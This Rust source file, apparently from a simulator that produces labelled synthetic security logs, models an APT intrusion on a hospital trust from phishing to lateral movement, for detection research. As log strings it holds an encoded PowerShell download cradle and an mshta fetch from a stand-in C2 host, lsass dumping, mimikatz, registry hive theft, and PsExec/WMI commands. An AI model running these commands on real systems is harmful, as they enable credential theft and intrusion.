//! Scenario `apt2018`: a capable actor as in January 2018 — phishing, an
//! implant beaconing with jitter, credential theft, discovery of the domain,
//! lateral movement with a stolen administrator's account to a domain
//! controller and the EHR servers, bulk reads from the EHR with a stolen
//! clinician's account preferring protected persons, and exfiltration. How
//! each stage is done is drawn per seed from a library of procedures
//! ([`crate::procedures`]), each written as the real tool logs it; the
//! stages' timing is drawn too. Every record it writes carries its ATT&CK
//! technique and stage into `truth/`.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use crate::format::{audit_event, conn, dns, http, ssl, uid};
use crate::output::{Rec, Stream, Tag};
use crate::procedures::{
    C2, Collection, Credential, Discovery, Exfil, Initial, Lateral, Proc, Procedures, Writer,
    running, sys32,
};
use crate::region::{HostKind, Role};
use crate::rng::Rng;
use crate::{HOUR, MINUTE, SECOND, SimError, Speed, Stealth, World};

/// The attacker's infrastructure (documentation address ranges: never real hosts).
pub const C2_DOMAIN: &str = "cdn-telemetry-sync.net";
/// Command-and-control address.
pub const C2_IP: [u8; 4] = [198, 51, 100, 23];
/// Exfiltration address.
pub const EXFIL_IP: [u8; 4] = [203, 0, 113, 77];
/// DNS tunnel domain.
pub const TUNNEL_DOMAIN: &str = "t.msft-update-check.com";

/// The attack's plan and state.
#[derive(Debug, Clone)]
pub struct Attack {
    /// Target trust.
    pub trust: usize,
    /// The phished clinician (staff index); their account reads the EHR.
    pub victim: usize,
    /// The administrator whose credentials are stolen.
    pub admin: usize,
    /// When each stage starts, ns.
    pub t_initial: i64,
    t_cred: i64,
    t_discovery: i64,
    /// When the administrator's stolen credentials are first used.
    pub t_lateral: i64,
    t_collect: i64,
    t_collect_end: i64,
    t_exfil: i64,
    beacon_every: i64,
    jitter: f64,
    next_beacon: i64,
    /// Patients to read, in order.
    targets: Vec<u32>,
    read: usize,
    /// Patients the attacker's own collection read so far.
    pub collected: BTreeSet<u32>,
    /// Hosts reached.
    pub hosts: BTreeSet<usize>,
    /// How each stage is done.
    pub procedures: Procedures,
    /// The implant's process, once it runs.
    implant: Option<Proc>,
    /// The purpose of use the collection claims.
    purpose: &'static str,
}

fn tag(stage: &'static str, technique: &'static str, host: &str, account: &str) -> Option<Tag> {
    Some(Tag {
        stage,
        technique,
        host: host.to_owned(),
        account: account.to_owned(),
        recording: None,
    })
}

impl Attack {
    /// Plans the attack on the largest trust, starting at `start`.
    pub fn plan(
        world: &World,
        rng: &mut Rng,
        start: i64,
        speed: Speed,
        stealth: Stealth,
        given: Option<Procedures>,
    ) -> Attack {
        let r = world.region;
        let trust = (0..r.trusts.len())
            .max_by_key(|t| world.trust_staff[*t].len())
            .unwrap_or(0);
        let staff = &world.trust_staff[trust];
        let pick_role = |rng: &mut Rng, role: Role| -> usize {
            let of: Vec<usize> = staff
                .iter()
                .copied()
                .filter(|s| r.staff[*s].role == role && !r.staff[*s].night)
                .collect();
            if of.is_empty() {
                staff[0]
            } else {
                *rng.pick(&of)
            }
        };
        let victim = pick_role(rng, Role::Physician);
        let admin = pick_role(rng, Role::ItAdmin);
        let scale = match speed {
            Speed::Fast => 1.0 / 12.0,
            Speed::Normal => 1.0,
            Speed::Slow => 3.0,
        };
        // The operator and their tools: drawn per seed and per stealth.
        let stream = match stealth {
            Stealth::Low => 101,
            Stealth::Medium => 102,
            Stealth::High => 103,
        };
        let procedures = given.unwrap_or_else(|| Procedures::draw(&mut rng.fork(stream), stealth));
        // The stages' timing, drawn: each gap 0.7–1.2 times the usual.
        let mut gap = |h: f64| h * (0.7 + 0.5 * rng.unit());
        let h_cred = gap(2.0);
        let h_discovery = h_cred + gap(4.0);
        let h_lateral = h_discovery + gap(18.0);
        let h_collect = h_lateral + gap(12.0);
        let at = |h: f64| start + (h * scale * HOUR as f64) as i64;
        let (beacon_every, jitter, reads, collect_hours) = match stealth {
            Stealth::Low => (60 * SECOND, 0.1, 3000usize, 2.0),
            Stealth::Medium => (300 * SECOND, 0.2, 800, 10.0),
            Stealth::High => (900 * SECOND, 0.35, 200, 30.0),
        };
        // The implant's sleep and jitter as this operator configured them.
        let beacon_every = (beacon_every as f64 * (0.6 + rng.unit())) as i64;
        let jitter = jitter + 0.15 * rng.unit();
        let collect_hours = collect_hours * (0.8 + 0.4 * rng.unit());
        // Protected persons first, then others of the trust.
        let pool = &world.trust_patients[trust];
        let mut targets: Vec<u32> = pool
            .iter()
            .copied()
            .filter(|p| r.patients[*p as usize].protected.is_some())
            .collect();
        let want = reads.min(pool.len() / 2).max(targets.len());
        let mut seen: BTreeSet<u32> = targets.iter().copied().collect();
        let mut guard = 0;
        while targets.len() < want && guard < want * 20 {
            guard += 1;
            let p = *rng.pick(pool);
            if seen.insert(p) {
                targets.push(p);
            }
        }
        let mut t_collect = at(h_collect);
        let mut t_collect_end = at(h_collect + collect_hours);
        let mut t_exfil = at(h_collect + collect_hours + 4.0);
        if procedures.collection == Collection::WorkingHours {
            // Hide in the day's traffic: start at the next 07:00–13:00 UTC
            // (08–14 in Norway in winter), the rest moving with it.
            let day = t_collect.div_euclid(24 * HOUR) * 24 * HOUR;
            let within = t_collect - day;
            let shift = if within < 7 * HOUR {
                7 * HOUR - within
            } else if within > 13 * HOUR {
                31 * HOUR - within
            } else {
                0
            };
            t_collect += shift;
            t_collect_end += shift;
            t_exfil += shift;
        }
        let purpose = if procedures.collection == Collection::ClientEmergency {
            "ETREAT"
        } else {
            "TREAT"
        };
        Attack {
            trust,
            victim,
            admin,
            t_initial: at(0.0),
            t_cred: at(h_cred),
            t_discovery: at(h_discovery),
            t_lateral: at(h_lateral),
            t_collect,
            t_collect_end,
            t_exfil,
            beacon_every,
            jitter,
            next_beacon: at(0.0) + 5 * MINUTE,
            targets,
            read: 0,
            collected: BTreeSet::new(),
            hosts: BTreeSet::new(),
            procedures,
            implant: None,
            purpose,
        }
    }

    /// When replayed recordings start: just after the credentials are taken.
    pub fn replay_start(&self) -> i64 {
        self.t_cred + 10 * MINUTE
    }

    /// Whether an EHR access at `t` by practitioner `who` from `address` was
    /// made in a session the attacker controlled: by the phished clinician's
    /// account or from their workstation after the initial access (the
    /// implant sees what the workstation shows), or by the administrator's
    /// account after the attacker first used it.
    pub fn controls(&self, world: &World, who: &str, address: Ipv4Addr, t: i64) -> bool {
        let r = world.region;
        let v = &r.staff[self.victim];
        (t >= self.t_initial && (who == v.id || address == r.hosts[v.workstation].ip))
            || (t >= self.t_lateral && who == r.staff[self.admin].id)
    }

    /// The attacker's records in the hour starting at `t0`.
    pub fn hour(
        &mut self,
        world: &mut World,
        rng: &mut Rng,
        t0: i64,
        recs: &mut Vec<Rec>,
    ) -> Result<(), SimError> {
        let t1 = t0 + HOUR;
        let r = world.region;
        let trust = self.trust;
        let v = &r.staff[self.victim];
        let a = &r.staff[self.admin];
        let ws = v.workstation;
        let ws_ip = r.hosts[ws].ip;
        let ws_name = r.hosts[ws].name.clone();
        let dc = r.server(trust, HostKind::DomainController);
        let ehr = r.servers(trust, HostKind::Ehr);
        let c2 = Ipv4Addr::from(C2_IP);
        let in_hour = |t: i64| t >= t0 && t < t1;
        let user = format!("HELSE\\{}", v.user);
        let admin_user = format!("HELSE\\{}", a.user);
        let home = format!("C:\\Users\\{}", v.user);
        let p = self.procedures.clone();
        let mut w = Writer { world, recs, trust };
        let on_ws = |stage, technique| tag(stage, technique, &ws_name, &v.user);
        let outlook = || {
            (
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ",
            )
        };
        let explorer = |rng: &mut Rng| {
            running(
                rng,
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\Explorer.EXE",
            )
        };
        let cache = format!(
            "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}",
            rng.hex(8).to_uppercase()
        );

        // Initial access and execution: the implant starts.
        if in_hour(self.t_initial) {
            let t = self.t_initial;
            self.hosts.insert(ws);
            let (ol_image, ol_cmd) = outlook();
            let ol = running(rng, ol_image, ol_cmd);
            let ia = || on_ws("initial-access", "T1566.001");
            let implant = match p.initial {
                Initial::MacroDoc => {
                    let doc = format!("{cache}\\Timeplan_januar.docm");
                    w.file(t, ws, &ol, &doc, &user, ia());
                    let word_image =
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
                    let word = w.start(
                        rng,
                        t + 8 * SECOND,
                        ws,
                        word_image,
                        "winword",
                        &format!("\"{word_image}\" /n \"{doc}\" /o \"\""),
                        &format!("{home}\\Documents\\"),
                        &user,
                        "Medium",
                        &ol,
                        ia(),
                    );
                    w.start(rng, t + 20 * SECOND, ws,
                        &sys32("WindowsPowerShell\\v1.0\\powershell.exe"), "powershell",
                        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHQAZQBsAGUAbQBlAHQAcgB5AC0AcwB5AG4AYwAuAG4AZQB0AC8AYQAnACkA",
                        &format!("{home}\\Documents\\"), &user, "Medium", &word,
                        on_ws("execution", "T1059.001"))
                }
                Initial::LnkMshta => {
                    let zip = format!("{cache}\\Faktura_2018-01.zip");
                    w.file(t, ws, &ol, &zip, &user, ia());
                    let ex = explorer(rng);
                    let unpacked =
                        format!("{home}\\AppData\\Local\\Temp\\Temp1_Faktura_2018-01.zip");
                    w.file(
                        t + 6 * SECOND,
                        ws,
                        &ex,
                        &format!("{unpacked}\\Faktura_2018-01.pdf.lnk"),
                        &user,
                        ia(),
                    );
                    let hta = format!("https://{C2_DOMAIN}/s/{}.hta", rng.hex(6));
                    let cmd = w.start(
                        rng,
                        t + 12 * SECOND,
                        ws,
                        &sys32("cmd.exe"),
                        "cmd",
                        &format!(
                            "\"C:\\Windows\\System32\\cmd.exe\" /c start /min mshta.exe {hta}"
                        ),
                        &format!("{unpacked}\\"),
                        &user,
                        "Medium",
                        &ex,
                        on_ws("execution", "T1204.002"),
                    );
                    let mshta = w.start(
                        rng,
                        t + 13 * SECOND,
                        ws,
                        &sys32("mshta.exe"),
                        "mshta",
                        &format!("mshta.exe  {hta}"),
                        &format!("{unpacked}\\"),
                        &user,
                        "Medium",
                        &cmd,
                        on_ws("execution", "T1218.005"),
                    );
                    let dll = format!(
                        "{home}\\AppData\\Roaming\\Microsoft\\Crypto\\RSA\\vcredist_x64.dll"
                    );
                    w.file(
                        t + 18 * SECOND,
                        ws,
                        &mshta,
                        &dll,
                        &user,
                        on_ws("execution", "T1105"),
                    );
                    w.start(
                        rng,
                        t + 20 * SECOND,
                        ws,
                        &sys32("rundll32.exe"),
                        "rundll32",
                        &format!("\"C:\\Windows\\System32\\rundll32.exe\" {dll},DllRegisterServer"),
                        &format!("{home}\\"),
                        &user,
                        "Medium",
                        &mshta,
                        on_ws("execution", "T1218.011"),
                    )
                }
                Initial::IsoDll => {
                    let iso = format!("{cache}\\Lonnsslipp_januar.iso");
                    w.file(t, ws, &ol, &iso, &user, ia());
                    let ex = explorer(rng);
                    let implant = w.start(
                        rng,
                        t + 15 * SECOND,
                        ws,
                        &sys32("rundll32.exe"),
                        "rundll32",
                        "\"C:\\Windows\\System32\\rundll32.exe\" E:\\data\\bin.dat,#1",
                        "E:\\",
                        &user,
                        "Medium",
                        &ex,
                        on_ws("execution", "T1218.011"),
                    );
                    w.connect(
                        t + 22 * SECOND,
                        ws,
                        &implant,
                        &user,
                        c2,
                        if p.c2 == C2::Http { 80 } else { 443 },
                        49152 + rng.below(16000) as u16,
                        on_ws("command-and-control", "T1071.001"),
                    );
                    implant
                }
                Initial::ExcelRegsvr32 => {
                    let xls = format!("{cache}\\Vaktliste_uke2.xlsm");
                    w.file(t, ws, &ol, &xls, &user, ia());
                    let excel_image =
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
                    let excel = w.start(
                        rng,
                        t + 7 * SECOND,
                        ws,
                        excel_image,
                        "excel",
                        &format!("\"{excel_image}\" \"{xls}\""),
                        &format!("{home}\\Documents\\"),
                        &user,
                        "Medium",
                        &ol,
                        ia(),
                    );
                    let ocx = "C:\\Users\\Public\\Documents\\apc.ocx";
                    w.file(
                        t + 15 * SECOND,
                        ws,
                        &excel,
                        ocx,
                        &user,
                        on_ws("execution", "T1105"),
                    );
                    w.start(
                        rng,
                        t + 17 * SECOND,
                        ws,
                        &sys32("regsvr32.exe"),
                        "regsvr32",
                        &format!("C:\\Windows\\System32\\regsvr32.exe -s {ocx}"),
                        &format!("{home}\\Documents\\"),
                        &user,
                        "Medium",
                        &excel,
                        on_ws("execution", "T1218.010"),
                    )
                }
                Initial::SmuggledJs => {
                    let browser = running(
                        rng,
                        "C:\\Windows\\SystemApps\\Microsoft.MicrosoftEdge_8wekyb3d8bbwe\\MicrosoftEdge.exe",
                        "\"C:\\Windows\\SystemApps\\Microsoft.MicrosoftEdge_8wekyb3d8bbwe\\MicrosoftEdge.exe\" -ServerName:MicrosoftEdge.AppXdnhjhccw3zf0j06tkg3jtqr00qdm0khc.mca",
                    );
                    let js = format!("{home}\\Downloads\\Timeplan_januar.js");
                    w.file(
                        t,
                        ws,
                        &browser,
                        &js,
                        &user,
                        on_ws("initial-access", "T1566.002"),
                    );
                    let ex = explorer(rng);
                    let wscript = w.start(
                        rng,
                        t + 9 * SECOND,
                        ws,
                        &sys32("WScript.exe"),
                        "wscript",
                        &format!("\"C:\\Windows\\System32\\WScript.exe\" \"{js}\""),
                        &format!("{home}\\Downloads\\"),
                        &user,
                        "Medium",
                        &ex,
                        on_ws("execution", "T1059.007"),
                    );
                    let ps1 = format!("{home}\\AppData\\Local\\Temp\\u{}.ps1", rng.below(90) + 10);
                    w.file(
                        t + 10 * SECOND,
                        ws,
                        &wscript,
                        &ps1,
                        &user,
                        on_ws("execution", "T1059.007"),
                    );
                    w.start(rng, t + 11 * SECOND, ws,
                        &sys32("WindowsPowerShell\\v1.0\\powershell.exe"), "powershell",
                        &format!("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w hidden -ep bypass -f {ps1}"),
                        &format!("{home}\\Downloads\\"), &user, "Medium", &wscript,
                        on_ws("execution", "T1059.001"))
                }
            };
            self.implant = Some(implant);
            let u = uid(rng);
            w.recs.push(Rec {
                t: t + 25 * SECOND,
                trust,
                stream: Stream::Dns,
                text: dns(
                    t + 25 * SECOND,
                    &u,
                    ws_ip,
                    53000,
                    r.hosts[dc].ip,
                    4242,
                    C2_DOMAIN,
                    "A",
                    &[c2.to_string()],
                ),
                tag: on_ws("command-and-control", "T1071.001"),
            });
        }
        // The implant beacons with jitter until the end.
        while self.next_beacon < t1 {
            let t = self.next_beacon;
            if t >= t0 {
                let u = uid(rng);
                let sp = 49152 + rng.below(16000) as u16;
                let out = 300 + rng.below(300);
                let inb = 200 + rng.below(800);
                let c2t = || on_ws("command-and-control", "T1071.001");
                match p.c2 {
                    C2::Https => {
                        w.recs.push(Rec {
                            t,
                            trust,
                            stream: Stream::Conn,
                            text: conn(t, &u, ws_ip, sp, c2, 443, "tcp", "ssl", 0.3, out, inb),
                            tag: c2t(),
                        });
                        w.recs.push(Rec {
                            t,
                            trust,
                            stream: Stream::Ssl,
                            text: ssl(t, &u, ws_ip, sp, c2, 443, C2_DOMAIN),
                            tag: c2t(),
                        });
                    }
                    C2::Http => {
                        w.recs.push(Rec {
                            t,
                            trust,
                            stream: Stream::Conn,
                            text: conn(t, &u, ws_ip, sp, c2, 80, "tcp", "http", 0.2, out, inb),
                            tag: c2t(),
                        });
                        let uri = format!("/api/v2/status?sid={}", rng.hex(16));
                        w.recs.push(Rec { t, trust, stream: Stream::Http,
                            text: http(t, &u, ws_ip, sp, c2, "GET", C2_DOMAIN, &uri,
                                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
                                0, inb.saturating_sub(180)),
                            tag: c2t() });
                    }
                }
            }
            let j = 1.0 + self.jitter * (2.0 * rng.unit() - 1.0);
            self.next_beacon = t + (self.beacon_every as f64 * j) as i64;
        }
        let implant = self
            .implant
            .clone()
            .unwrap_or_else(|| running(rng, &sys32("rundll32.exe"), "rundll32.exe"));
        let lsass = running(rng, &sys32("lsass.exe"), "C:\\Windows\\system32\\lsass.exe");
        // Credential access: the administrator's credentials taken.
        if in_hour(self.t_cred) {
            let t = self.t_cred;
            let ca = |tech| on_ws("credential-access", tech);
            match p.credential {
                Credential::ComsvcsMiniDump => {
                    let rd = w.start(rng, t, ws, &sys32("rundll32.exe"), "rundll32",
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\dbg.bin full",
                        &format!("{home}\\"), &user, "High", &implant, ca("T1003.001"));
                    w.access(rng, t + SECOND, ws, &rd, &lsass, "0x1FFFFF",
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2d23e|C:\\Windows\\System32\\comsvcs.dll+2a6b3|C:\\Windows\\System32\\comsvcs.dll+2b2e4|C:\\Windows\\System32\\rundll32.exe+3bd4",
                        &user, ca("T1003.001"));
                    w.file(
                        t + 3 * SECOND,
                        ws,
                        &rd,
                        "C:\\Users\\Public\\dbg.bin",
                        &user,
                        ca("T1003.001"),
                    );
                }
                Credential::ProcDump => {
                    let image = "C:\\Users\\Public\\Downloads\\pd64.exe";
                    w.file(t - 30 * SECOND, ws, &implant, image, &user, ca("T1105"));
                    let pd = w.start(rng, t, ws, image, "procdump",
                        "C:\\Users\\Public\\Downloads\\pd64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\Downloads\\l.dmp",
                        "C:\\Users\\Public\\Downloads\\", &user, "High", &implant, ca("T1003.001"));
                    w.access(rng, t + SECOND, ws, &pd, &lsass, "0x1FFFFF",
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2d23e|C:\\Windows\\SYSTEM32\\dbghelp.dll+5a6f1|C:\\Users\\Public\\Downloads\\pd64.exe+2e7f1",
                        &user, ca("T1003.001"));
                    w.file(
                        t + 4 * SECOND,
                        ws,
                        &pd,
                        "C:\\Users\\Public\\Downloads\\l.dmp",
                        &user,
                        ca("T1003.001"),
                    );
                }
                Credential::Mimikatz => {
                    let image = "C:\\ProgramData\\Intel\\igfxhk.exe";
                    w.file(t - 40 * SECOND, ws, &implant, image, &user, ca("T1105"));
                    let mk = w.start(
                        rng,
                        t,
                        ws,
                        image,
                        "mimikatz",
                        "igfxhk.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                        "C:\\ProgramData\\Intel\\",
                        &user,
                        "High",
                        &implant,
                        ca("T1003.001"),
                    );
                    w.access(rng, t + SECOND, ws, &mk, &lsass, "0x1010",
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2d23e|C:\\ProgramData\\Intel\\igfxhk.exe+7b1c4|C:\\ProgramData\\Intel\\igfxhk.exe+7b53e|C:\\ProgramData\\Intel\\igfxhk.exe+50a9a",
                        &user, ca("T1003.001"));
                }
                Credential::SilentDumper => {
                    let image = format!("{home}\\AppData\\Local\\Temp\\WinSAT_{}.exe", rng.hex(4));
                    w.file(t - 20 * SECOND, ws, &implant, &image, &user, ca("T1105"));
                    let d = w.start(
                        rng,
                        t,
                        ws,
                        &image,
                        "unknown",
                        &format!("\"{image}\""),
                        &format!("{home}\\"),
                        &user,
                        "High",
                        &implant,
                        ca("T1003.001"),
                    );
                    w.access(
                        rng,
                        t + SECOND,
                        ws,
                        &d,
                        &lsass,
                        "0x1FFFFF",
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|UNKNOWN(00007FF6A1B21A3F)",
                        &user,
                        ca("T1003.001"),
                    );
                    w.file(
                        t + 2 * SECOND,
                        ws,
                        &d,
                        &format!("C:\\Windows\\Temp\\{}.tmp", rng.hex(8)),
                        &user,
                        ca("T1003.001"),
                    );
                }
                Credential::RegSaveHives => {
                    for (n, (hive, out)) in
                        [("HKLM\\SECURITY", "sec.hiv"), ("HKLM\\SYSTEM", "sys.hiv")]
                            .iter()
                            .enumerate()
                    {
                        let tt = t + n as i64 * 5 * SECOND;
                        let reg = w.start(rng, tt, ws, &sys32("reg.exe"), "reg",
                            &format!("\"C:\\Windows\\system32\\reg.exe\" save {hive} C:\\Users\\Public\\{out} /y"),
                            &format!("{home}\\"), &user, "High", &implant, ca("T1003.005"));
                        w.file(
                            tt + SECOND,
                            ws,
                            &reg,
                            &format!("C:\\Users\\Public\\{out}"),
                            &user,
                            ca("T1003.005"),
                        );
                    }
                }
            }
        }
        // Discovery.
        if in_hour(self.t_discovery) {
            let t = self.t_discovery;
            let cwd = format!("{home}\\");
            match p.discovery {
                Discovery::NetGroup => {
                    let net = w.start(
                        rng,
                        t,
                        ws,
                        &sys32("net.exe"),
                        "net",
                        "net group \"domain admins\" /domain",
                        &cwd,
                        &user,
                        "Medium",
                        &implant,
                        on_ws("discovery", "T1069.002"),
                    );
                    w.start(
                        rng,
                        t + SECOND / 10,
                        ws,
                        &sys32("net1.exe"),
                        "net1",
                        "C:\\Windows\\system32\\net1 group \"domain admins\" /domain",
                        &cwd,
                        &user,
                        "Medium",
                        &net,
                        on_ws("discovery", "T1069.002"),
                    );
                }
                Discovery::Nltest => {
                    w.start(
                        rng,
                        t,
                        ws,
                        &sys32("nltest.exe"),
                        "nltest",
                        "nltest  /dclist:helse.local",
                        &cwd,
                        &user,
                        "Medium",
                        &implant,
                        on_ws("discovery", "T1018"),
                    );
                    w.start(
                        rng,
                        t + 40 * SECOND,
                        ws,
                        &sys32("nltest.exe"),
                        "nltest",
                        "nltest  /domain_trusts /all_trusts",
                        &cwd,
                        &user,
                        "Medium",
                        &implant,
                        on_ws("discovery", "T1482"),
                    );
                }
                Discovery::AdFind => {
                    let image = "C:\\Users\\Public\\a.exe";
                    w.file(
                        t - 60 * SECOND,
                        ws,
                        &implant,
                        image,
                        &user,
                        on_ws("discovery", "T1105"),
                    );
                    for (n, (filter, out)) in [
                        ("(objectcategory=person)", "ad_users.txt"),
                        ("(objectcategory=computer)", "ad_computers.txt"),
                    ]
                    .iter()
                    .enumerate()
                    {
                        let tt = t + n as i64 * 30 * SECOND;
                        let cmd = w.start(rng, tt, ws, &sys32("cmd.exe"), "cmd",
                            &format!("C:\\Windows\\system32\\cmd.exe /C a.exe -f \"{filter}\" > C:\\Users\\Public\\{out}"),
                            "C:\\Users\\Public\\", &user, "Medium", &implant, on_ws("discovery", "T1087.002"));
                        w.start(
                            rng,
                            tt + SECOND / 10,
                            ws,
                            image,
                            "adfind",
                            &format!("a.exe  -f \"{filter}\""),
                            "C:\\Users\\Public\\",
                            &user,
                            "Medium",
                            &cmd,
                            on_ws("discovery", "T1087.002"),
                        );
                    }
                }
                Discovery::SamrRpc => {
                    // Seen only on the servers: the user's network logon and
                    // the named pipes opened over IPC$.
                    let mut tt = t;
                    let servers: Vec<usize> =
                        std::iter::once(dc).chain(ehr.iter().copied()).collect();
                    for (n, host) in servers.into_iter().enumerate() {
                        let hname = r.hosts[host].name.clone();
                        let dtag = || {
                            tag(
                                "discovery",
                                if n == 0 { "T1087.002" } else { "T1049" },
                                &hname,
                                &v.user,
                            )
                        };
                        let u = uid(rng);
                        w.recs.push(Rec {
                            t: tt,
                            trust,
                            stream: Stream::Conn,
                            text: conn(
                                tt,
                                &u,
                                ws_ip,
                                49152 + rng.below(16000) as u16,
                                r.hosts[host].ip,
                                445,
                                "tcp",
                                "smb",
                                2.5,
                                9_000,
                                14_000,
                            ),
                            tag: dtag(),
                        });
                        w.logon(rng, tt, host, &v.user, 3, ws_ip, &ws_name, dtag());
                        let pipes: &[&str] = if n == 0 {
                            &["lsarpc", "samr", "lsarpc"]
                        } else {
                            &["srvsvc"]
                        };
                        for (k, pipe) in pipes.iter().enumerate() {
                            w.share_access(
                                rng,
                                tt + (k as i64 + 1) * SECOND / 5,
                                host,
                                &v.user,
                                ws_ip,
                                "\\\\*\\IPC$",
                                pipe,
                                dtag(),
                            );
                        }
                        tt += 3 * SECOND + rng.range(0, 2 * SECOND);
                    }
                }
                Discovery::ReconBurst => {
                    let cmd = w.start(rng, t, ws, &sys32("cmd.exe"), "cmd",
                        "C:\\Windows\\system32\\cmd.exe /c whoami /all & systeminfo & net localgroup administrators",
                        &cwd, &user, "Medium", &implant, on_ws("discovery", "T1033"));
                    w.start(
                        rng,
                        t + SECOND / 5,
                        ws,
                        &sys32("whoami.exe"),
                        "whoami",
                        "whoami  /all",
                        &cwd,
                        &user,
                        "Medium",
                        &cmd,
                        on_ws("discovery", "T1033"),
                    );
                    w.start(
                        rng,
                        t + SECOND,
                        ws,
                        &sys32("systeminfo.exe"),
                        "systeminfo",
                        "systeminfo ",
                        &cwd,
                        &user,
                        "Medium",
                        &cmd,
                        on_ws("discovery", "T1082"),
                    );
                    let net = w.start(
                        rng,
                        t + 4 * SECOND,
                        ws,
                        &sys32("net.exe"),
                        "net",
                        "net  localgroup administrators",
                        &cwd,
                        &user,
                        "Medium",
                        &cmd,
                        on_ws("discovery", "T1069.001"),
                    );
                    w.start(
                        rng,
                        t + 4 * SECOND + SECOND / 10,
                        ws,
                        &sys32("net1.exe"),
                        "net1",
                        "C:\\Windows\\system32\\net1  localgroup administrators",
                        &cwd,
                        &user,
                        "Medium",
                        &net,
                        on_ws("discovery", "T1069.001"),
                    );
                }
            }
        }
        // Lateral movement with the administrator's account, one procedure per target.
        if in_hour(self.t_lateral) {
            let mut t = self.t_lateral;
            for (k, target) in [dc, ehr[0], ehr[1]].into_iter().enumerate() {
                self.hosts.insert(target);
                let tname = r.hosts[target].name.clone();
                let tip = r.hosts[target].ip;
                let lm = |tech| tag("lateral-movement", tech, &tname, &a.user);
                let lm_ws = |tech| tag("lateral-movement", tech, &ws_name, &a.user);
                let net = |w: &mut Writer,
                           rng: &mut Rng,
                           t: i64,
                           port: u16,
                           service: &str,
                           dur: f64,
                           out: u64,
                           inb: u64,
                           technique| {
                    let u = uid(rng);
                    w.recs.push(Rec {
                        t,
                        trust,
                        stream: Stream::Conn,
                        text: conn(
                            t,
                            &u,
                            ws_ip,
                            49152 + rng.below(16000) as u16,
                            tip,
                            port,
                            "tcp",
                            service,
                            dur,
                            out,
                            inb,
                        ),
                        tag: tag("lateral-movement", technique, &tname, &a.user),
                    });
                };
                let method = p.lateral[k];
                let services = running(
                    rng,
                    &sys32("services.exe"),
                    "C:\\Windows\\system32\\services.exe",
                );
                match method {
                    Lateral::PsExec => {
                        let image = "C:\\Users\\Public\\PsExec64.exe";
                        w.start(
                            rng,
                            t - 2 * SECOND,
                            ws,
                            image,
                            "psexec",
                            &format!(
                                "PsExec64.exe  \\\\{tname} -accepteula -s cmd.exe /c \"dir D:\\\""
                            ),
                            "C:\\Users\\Public\\",
                            &admin_user,
                            "High",
                            &implant,
                            lm_ws("T1569.002"),
                        );
                        net(
                            &mut w,
                            rng,
                            t,
                            445,
                            "smb",
                            120.0,
                            40_000,
                            90_000,
                            "T1021.002",
                        );
                        w.logon(
                            rng,
                            t + SECOND,
                            target,
                            &a.user,
                            3,
                            ws_ip,
                            &ws_name,
                            lm("T1078.002"),
                        );
                        w.event(
                            t + 3 * SECOND,
                            target,
                            "System",
                            "Service Control Manager",
                            7045,
                            &[
                                ("ServiceName", "PSEXESVC".into()),
                                ("ImagePath", "%SystemRoot%\\PSEXESVC.exe".into()),
                                ("ServiceType", "user mode service".into()),
                                ("StartType", "demand start".into()),
                                ("AccountName", "LocalSystem".into()),
                            ],
                            lm("T1569.002"),
                        );
                        let svc = w.start(
                            rng,
                            t + 4 * SECOND,
                            target,
                            "C:\\Windows\\PSEXESVC.exe",
                            "psexesvc",
                            "C:\\Windows\\PSEXESVC.exe",
                            "C:\\Windows\\system32\\",
                            "NT AUTHORITY\\SYSTEM",
                            "System",
                            &services,
                            lm("T1569.002"),
                        );
                        w.start(
                            rng,
                            t + 5 * SECOND,
                            target,
                            &sys32("cmd.exe"),
                            "cmd",
                            "\"cmd.exe\" /c \"dir D:\\\"",
                            "C:\\Windows\\system32\\",
                            "NT AUTHORITY\\SYSTEM",
                            "System",
                            &svc,
                            lm("T1569.002"),
                        );
                    }
                    Lateral::WmiExec => {
                        net(&mut w, rng, t, 135, "dce_rpc", 0.5, 1_500, 1_200, "T1047");
                        net(
                            &mut w,
                            rng,
                            t + SECOND,
                            49666,
                            "dce_rpc",
                            30.0,
                            12_000,
                            8_000,
                            "T1047",
                        );
                        net(
                            &mut w,
                            rng,
                            t + 2 * SECOND,
                            445,
                            "smb",
                            30.0,
                            6_000,
                            9_000,
                            "T1047",
                        );
                        w.logon(
                            rng,
                            t + SECOND,
                            target,
                            &a.user,
                            3,
                            ws_ip,
                            &ws_name,
                            lm("T1078.002"),
                        );
                        let prv = running(
                            rng,
                            &sys32("wbem\\WmiPrvSE.exe"),
                            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                        );
                        let out = format!("__{}.{}", (t / 1_000_000_000), rng.below(99));
                        for (n, c) in ["cd \\", "whoami", "dir D:\\"].iter().enumerate() {
                            w.start(
                                rng,
                                t + (3 + 4 * n as i64) * SECOND,
                                target,
                                &sys32("cmd.exe"),
                                "cmd",
                                &format!("cmd.exe /Q /c {c} 1> \\\\127.0.0.1\\ADMIN$\\{out} 2>&1"),
                                "C:\\",
                                &admin_user,
                                "High",
                                &prv,
                                lm("T1047"),
                            );
                        }
                    }
                    Lateral::WinRm => {
